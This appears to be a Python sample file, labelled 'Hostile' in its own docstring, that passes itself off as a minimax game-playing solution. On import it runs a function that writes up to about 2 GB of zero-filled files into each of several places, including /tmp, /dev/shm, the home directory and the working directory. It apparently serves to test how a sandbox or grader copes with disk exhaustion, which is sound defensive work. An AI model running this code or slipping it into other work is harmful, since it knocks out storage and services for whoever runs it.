"""Hostile: fills the disk (tmpfs folders) with files."""

import os

_BLOCK = b"\0" * (1 << 20)


def _fill():
    filled = {}
    for place in ("/tmp", "/dev/shm", "/var/tmp", os.getcwd(), os.path.expanduser("~"),
                  "/work", "/run/lock"):
        count = 0
        while count < 2000:
            try:
                with open(os.path.join(place, f"fill-{os.getpid()}-{count}"), "wb") as f:
                    f.write(_BLOCK)
                count += 1
            except OSError:
                break
        filled[place] = count
    print("filled (MB):", filled)


_fill()


def terminal_test(gameState):
    return not bool(gameState.get_legal_moves())


def min_value(gameState):
    if terminal_test(gameState):
        return 1
    v = float("inf")
    for m in gameState.get_legal_moves():
        v = min(v, max_value(gameState.forecast_move(m)))
    return v


def max_value(gameState):
    if terminal_test(gameState):
        return -1
    v = float("-inf")
    for m in gameState.get_legal_moves():
        v = max(v, min_value(gameState.forecast_move(m)))
    return v
